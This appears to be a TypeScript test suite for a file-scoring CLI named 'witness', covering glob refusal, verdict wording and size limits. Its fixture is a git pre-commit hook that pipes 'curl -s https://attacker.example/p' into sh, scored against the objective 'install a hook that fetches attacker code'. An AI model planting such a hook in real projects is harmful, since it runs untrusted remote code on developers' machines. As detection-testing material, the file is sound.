import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { witness } from '../support/in-process-cli.js';
import { makeWorkspace } from '../support/workspace.js';

const HOOK_TEXT = '#!/bin/sh\ncurl -s https://attacker.example/p | sh\n';
const dir = mkdtempSync(path.join(tmpdir(), 'witness-ux-verdicts-'));
after(() => rmSync(dir, { recursive: true, force: true }));

describe('a typo never becomes a proven negative (SPEC §10)', () => {
  const root = makeWorkspace({ 'hooks/pre-commit': HOOK_TEXT });

  for (const uri of [
    '/**',
    '/hooks/*',
    '/hooks/pre-commi?',
    '/[a-z]ooks/pre-commit',
    '/{hooks,x}/pre-commit',
  ]) {
    it(`refuses the exact uri ${uri} (glob characters, no --glob) with exit 2, suggesting --glob`, async () => {
      for (const command of ['score', 'observe']) {
        const result = await witness(
          [command, root, uri, '--contains', 'x'].slice(0, command === 'score' ? 5 : 3),
        );
        assert.equal(result.status, 2, `${command}: ${result.stdout}`);
        assert.equal(result.stdout, '');
        assert.match(result.stderr, /glob characters .* add --glob .* or --exact/);
      }
    });
  }

  it('reads a name that really holds glob characters with --exact (and refuses --exact with --glob)', async () => {
    const odd = makeWorkspace({ 'a[1].txt': 'curl' });
    const result = await witness(['score', odd, '/a[1].txt', '--exact', '--contains', 'curl', '--json']);
    assert.equal(result.status, 0, result.stderr);
    assert.equal((JSON.parse(result.stdout) as { score: { value: boolean } }).score.value, true);
    const both = await witness(['score', odd, '/a*', '--exact', '--glob']);
    assert.equal(both.status, 2);
  });

  it('roots a uri typed without its leading "/" and stores it as /…', async () => {
    const result = await witness(['score', root, 'hooks/pre-commit', '--contains', 'curl', '--json']);
    assert.equal(result.status, 0, result.stderr);
    const { score, observation } = JSON.parse(result.stdout) as {
      score: {
        value: boolean;
        scorable: { uri: string };
        scoredExpectation: { conditions: { uri: string }[] };
      };
      observation: { scorable: { uri: string }; payload: { scope: { uri: string } } };
    };
    assert.equal(score.value, true);
    assert.equal(score.scorable.uri, '/hooks/pre-commit');
    assert.equal(score.scoredExpectation.conditions[0]?.uri, '/hooks/pre-commit');
    assert.equal(observation.scorable.uri, '/hooks/pre-commit');
    assert.equal(observation.payload.scope.uri, '/hooks/pre-commit');
  });
});

describe('the criterion, the objective and the limit behind a partial read are shown in words', () => {
  const root = makeWorkspace({ 'hooks/pre-commit': HOOK_TEXT });
  const db = path.join(dir, 'criterion.db');

  it('score prints the criterion, the objective, the stored score id and a content excerpt', async () => {
    const result = await witness([
      'score',
      root,
      '/hooks/pre-commit',
      '--contains',
      'curl',
      '--objective',
      'install a hook that fetches attacker code',
      '--db',
      db,
    ]);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stdout, /^Verdict: TRUE\n/);
    assert.match(
      result.stdout,
      /\n {2}Criterion: \/hooks\/pre-commit \(exact\) holds content containing "curl" \(ignoring case\)\n/,
    );
    assert.match(result.stdout, /\n {2}Objective: install a hook that fetches attacker code\n/);
    assert.match(
      result.stdout,
      /holds content containing "curl" \(ignoring case\): proven by "\/hooks\/pre-commit"/,
    );
    assert.match(result.stdout, /content: #!\/bin\/sh\\ncurl -s https:\/\/attacker\.example\/p \| sh\\n/);
    const stored = /stored score (\S+) and observation (\S+) in /.exec(result.stderr);
    assert.ok(stored, result.stderr);
    const show = await witness(['scores', 'show', stored[1] as string, '--db', db]);
    assert.equal(show.status, 0, show.stderr);
    assert.match(show.stdout, /Criterion: \/hooks\/pre-commit \(exact\) holds content containing "curl"/);
    assert.match(show.stdout, /Objective: install a hook that fetches attacker code/);
    assert.match(show.stdout, /content: #!\/bin\/sh/);
  });

  it('a regex, case and whitespace options are named; replay shows the new criterion', async () => {
    const result = await witness([
      'score',
      root,
      '/hooks/pre-commit',
      '--regex',
      'curl\\s+-s',
      '--case-sensitive',
      '--keep-whitespace',
      '--json',
    ]);
    const file = path.join(dir, 'regex.json');
    (await import('node:fs')).writeFileSync(file, result.stdout);
    const replayed = await witness(['replay', file]);
    assert.equal(replayed.status, 0, replayed.stderr);
    assert.match(
      replayed.stdout,
      /Criterion: \/hooks\/pre-commit \(exact\) holds content matching the regular expression "curl\\s\+-s" \(case-sensitive, surrounding whitespace kept\)/,
    );
    const other = await witness(['replay', file, '--equals', 'nope']);
    assert.match(
      other.stdout,
      /Verdict: FALSE\n {2}Criterion: .* holds content equal to "nope" \(ignoring case\)/,
    );
  });

  it('an undetermined verdict names the budget that made the read partial and how to raise it', async () => {
    const result = await witness([
      'score',
      root,
      '/hooks/pre-commit',
      '--equals',
      HOOK_TEXT,
      '--max-content-bytes',
      '8',
    ]);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stdout, /^Verdict: UNDETERMINED/);
    assert.match(result.stdout, /"\/hooks\/pre-commit": 8 of 50 bytes kept/);
    assert.match(
      result.stdout,
      /raise maxContentBytes \(evidence\.maxContentBytes in a campaign, --max-content-bytes on the command line\)/,
    );
    const files = await witness([
      'score',
      makeWorkspace({ 'a/1': 'x', 'a/2': 'x' }),
      '/a/*',
      '--glob',
      '--equals',
      'y',
      '--max-files',
      '1',
    ]);
    assert.match(
      files.stdout,
      /raise maxFiles \(evidence\.maxFiles in a campaign, --max-files on the command line\)/,
    );
  });
});

describe('limits: one schema, documented maximums', () => {
  const root = makeWorkspace({ a: 'x' });

  for (const [flag, maximum] of [
    ['--max-files', 1_000_000],
    ['--max-content-bytes', 67_108_864],
    ['--max-read-bytes', 1_073_741_824],
    ['--max-listed-entries', 10_000_000],
  ] as const) {
    it(`${flag} above its maximum (${maximum}) is refused with exit 2; the maximum itself is accepted`, async () => {
      const huge = await witness(['score', root, '/a', flag, String(2 ** 53 - 1)]);
      assert.equal(huge.status, 2);
      assert.equal(huge.stdout, '');
      assert.match(huge.stderr, new RegExp(`${flag} takes a positive whole number of at most ${maximum}`));
      const max = await witness(['score', root, '/a', flag, String(maximum)]);
      assert.equal(max.status, 0, max.stderr);
    });
  }

  it('help text shows each default and maximum, from the same schema', async () => {
    const help = await witness(['score', '--help']);
    assert.match(
      help.stdout,
      /--max-content-bytes <n>\s+bytes of text retained per file \(default 1000000, at\s+most\s+67108864\)/,
    );
  });
});
